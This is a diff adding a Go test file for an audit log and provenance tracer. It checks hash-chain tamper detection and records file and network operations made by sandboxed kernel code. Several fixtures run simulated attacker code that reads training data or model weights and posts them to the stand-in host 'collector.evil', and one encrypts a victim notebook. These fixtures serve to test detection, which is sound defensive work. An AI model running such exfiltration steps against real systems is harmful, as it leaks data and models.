@@ -1,0 +1,259 @@
+package audit
+
+import (
+	"errors"
+	"strings"
+	"testing"
+	"time"
+
+	"repro/internal/kernel"
+	"repro/internal/trace"
+	"repro/internal/vfs"
+)
+
+var t0 = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)
+
+func TestHashChainIntegrity(t *testing.T) {
+	log := NewLog(trace.NewFakeClock(t0))
+	log.Append("k1", "alice", "exec", "", "print(1)", 8, true)
+	log.Append("k1", "alice", "read", "data/a.csv", "", 100, true)
+	log.Append("k1", "alice", "write", "out.txt", "", 50, true)
+	if err := log.VerifyLog(); err != nil {
+		t.Fatal(err)
+	}
+	if log.Len() != 3 || log.Head() == "genesis" {
+		t.Fatalf("len=%d head=%s", log.Len(), log.Head())
+	}
+}
+
+func TestHashChainTamper(t *testing.T) {
+	log := NewLog(trace.NewFakeClock(t0))
+	for i := 0; i < 10; i++ {
+		log.Append("k1", "alice", "write", "f", "", i, true)
+	}
+	records := log.Records()
+
+	// Mutating any record's content is detected at that record.
+	for i := range records {
+		tampered := make([]Record, len(records))
+		copy(tampered, records)
+		tampered[i].Target = "covered-tracks"
+		if got := Verify(tampered); got != i {
+			t.Errorf("tamper at %d detected at %d", i, got)
+		}
+	}
+	// Deleting a middle record breaks the chain at the splice point.
+	spliced := append(append([]Record{}, records[:4]...), records[5:]...)
+	if got := Verify(spliced); got != 4 {
+		t.Errorf("deletion detected at %d, want 4", got)
+	}
+	// Reordering is detected.
+	swapped := make([]Record, len(records))
+	copy(swapped, records)
+	swapped[2], swapped[3] = swapped[3], swapped[2]
+	if got := Verify(swapped); got != 2 {
+		t.Errorf("reorder detected at %d, want 2", got)
+	}
+}
+
+func TestVerifyEmptyAndIntact(t *testing.T) {
+	if Verify(nil) != -1 {
+		t.Fatal("empty chain invalid")
+	}
+	log := NewLog(nil)
+	log.Append("k", "u", "exec", "", "", 0, true)
+	if err := log.VerifyLog(); err != nil {
+		t.Fatal(err)
+	}
+	recs := log.Records()
+	recs[0].Prev = "wrong"
+	if !errors.Is(func() error {
+		if i := Verify(recs); i >= 0 {
+			return ErrChainBroken
+		}
+		return nil
+	}(), ErrChainBroken) {
+		t.Fatal("bad prev accepted")
+	}
+}
+
+func TestMarshalJSONL(t *testing.T) {
+	log := NewLog(trace.NewFakeClock(t0))
+	log.Append("k1", "u", "exec", "", "code", 4, true)
+	out := string(MarshalJSONL(log.Records()))
+	if !strings.Contains(out, `"op":"exec"`) || !strings.HasSuffix(out, "\n") {
+		t.Fatalf("jsonl = %q", out)
+	}
+}
+
+// tracedSession runs code in an audited kernel and returns the log.
+func tracedSession(t *testing.T, code string) (*Log, *vfs.FS) {
+	t.Helper()
+	clock := trace.NewFakeClock(t0)
+	log := NewLog(clock)
+	tracer := NewTracer(log)
+	fs := vfs.New(vfs.WithClock(clock))
+	_ = fs.Write("data/train.csv", "setup", []byte("a,b\n1,2\n"))
+	_ = fs.Write("models/w.bin", "setup", []byte(strings.Repeat("W", 8192)))
+	mgr := kernel.NewManager(kernel.Config{
+		FS: fs, Clock: clock,
+		Gateway: kernel.GatewayFunc(func(m, u string, b []byte) (int, []byte, error) {
+			return 200, []byte("ok"), nil
+		}),
+		HostWrapper: tracer.WrapHost,
+		ExecHook: func(kernelID, user, code string) {
+			tracer.RecordExec(kernelID, user, code)
+		},
+	})
+	k := mgr.Start("", "mallory")
+	res, err := k.Execute(code, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.Status != "ok" {
+		t.Fatalf("execution failed: %s: %s", res.EName, res.EValue)
+	}
+	return log, fs
+}
+
+func TestKernelInstrumentation(t *testing.T) {
+	log, _ := tracedSession(t, `data = read_file("data/train.csv")
+write_file("out/copy.csv", data)`)
+	if err := log.VerifyLog(); err != nil {
+		t.Fatal(err)
+	}
+	var ops []string
+	for _, r := range log.Records() {
+		ops = append(ops, r.Op)
+	}
+	want := "exec,read,write"
+	if strings.Join(ops, ",") != want {
+		t.Fatalf("ops = %v", ops)
+	}
+	for _, r := range log.Records() {
+		if r.User != "mallory" || r.KernelID == "" {
+			t.Fatalf("attribution = %+v", r)
+		}
+	}
+}
+
+func TestProvenanceWhoTouched(t *testing.T) {
+	log, _ := tracedSession(t, `write_file("victim.ipynb", encrypt("contents", "key"))`)
+	p := BuildProvenance(log.Records())
+	execs := p.WhoTouched("victim.ipynb")
+	if len(execs) != 1 {
+		t.Fatalf("execs = %+v", execs)
+	}
+	if !strings.Contains(execs[0].Detail, "encrypt(") {
+		t.Fatalf("exec detail = %q", execs[0].Detail)
+	}
+}
+
+func TestProvenanceBlastRadius(t *testing.T) {
+	log, _ := tracedSession(t, `data = read_file("data/train.csv")
+write_file("a.txt", data)
+write_file("b.txt", data)
+http_post("http://collector.evil/drop", data)`)
+	p := BuildProvenance(log.Records())
+	execSeq := log.Records()[0].Seq
+	edges := p.Reached(execSeq)
+	if len(edges) != 4 {
+		t.Fatalf("edges = %+v", edges)
+	}
+	kinds := map[NodeKind]int{}
+	for _, e := range edges {
+		kinds[e.Kind]++
+	}
+	if kinds[NodeFile] != 3 || kinds[NodeRemote] != 1 {
+		t.Fatalf("kinds = %v", kinds)
+	}
+}
+
+func TestProvenanceExfiltrationQuery(t *testing.T) {
+	log, _ := tracedSession(t, `w = read_file("models/w.bin")
+http_post("http://collector.evil/drop", w)`)
+	p := BuildProvenance(log.Records())
+	flows := p.Exfiltrated()
+	endpoints, ok := flows["models/w.bin"]
+	if !ok || len(endpoints) != 1 || endpoints[0] != "http://collector.evil/drop" {
+		t.Fatalf("flows = %+v", flows)
+	}
+}
+
+func TestProvenanceSeparatesExecutions(t *testing.T) {
+	clock := trace.NewFakeClock(t0)
+	log := NewLog(clock)
+	tracer := NewTracer(log)
+	fs := vfs.New(vfs.WithClock(clock))
+	_ = fs.Write("f1", "s", []byte("x"))
+	mgr := kernel.NewManager(kernel.Config{
+		FS: fs, Clock: clock,
+		HostWrapper: tracer.WrapHost,
+		ExecHook:    func(id, u, c string) { tracer.RecordExec(id, u, c) },
+	})
+	k := mgr.Start("", "u")
+	if _, err := k.Execute(`x = read_file("f1")`, nil); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Execute(`write_file("f2", "y")`, nil); err != nil {
+		t.Fatal(err)
+	}
+	p := BuildProvenance(log.Records())
+	// f1 readers and f2 writers must be different executions.
+	r1 := p.WhoTouched("f1")
+	r2 := p.WhoTouched("f2")
+	if len(r1) != 1 || len(r2) != 1 || r1[0].Seq == r2[0].Seq {
+		t.Fatalf("r1=%+v r2=%+v", r1, r2)
+	}
+}
+
+func TestSummarize(t *testing.T) {
+	log, _ := tracedSession(t, `data = read_file("data/train.csv")
+write_file("out.txt", data)
+delete_file("out.txt")
+http_post("http://x/", data)`)
+	sums := Summarize(log.Records())
+	if len(sums) != 1 {
+		t.Fatalf("summaries = %+v", sums)
+	}
+	for _, s := range sums {
+		if s.Executions != 1 || s.Reads != 1 || s.Writes != 1 || s.Deletes != 1 || s.NetOps != 1 {
+			t.Fatalf("summary = %+v", s)
+		}
+	}
+}
+
+func TestFailedOpsRecorded(t *testing.T) {
+	clock := trace.NewFakeClock(t0)
+	log := NewLog(clock)
+	tracer := NewTracer(log)
+	mgr := kernel.NewManager(kernel.Config{
+		Clock:       clock,
+		HostWrapper: tracer.WrapHost,
+		ExecHook:    func(id, u, c string) { tracer.RecordExec(id, u, c) },
+	})
+	k := mgr.Start("", "u")
+	res, _ := k.Execute(`read_file("does/not/exist")`, nil)
+	if res.Status != "error" {
+		t.Fatal("read should fail")
+	}
+	var found bool
+	for _, r := range log.Records() {
+		if r.Op == "read" && !r.OK && strings.Contains(r.Detail, "not found") {
+			found = true
+		}
+	}
+	if !found {
+		t.Fatalf("failed read not recorded: %+v", log.Records())
+	}
+}
+
+func TestExecDetailTruncated(t *testing.T) {
+	log := NewLog(nil)
+	tracer := NewTracer(log)
+	tracer.RecordExec("k", "u", strings.Repeat("x", 2000))
+	r := log.Records()[0]
+	if len(r.Detail) != 512 || r.Bytes != 2000 {
+		t.Fatalf("detail len=%d bytes=%d", len(r.Detail), r.Bytes)
+	}
+}
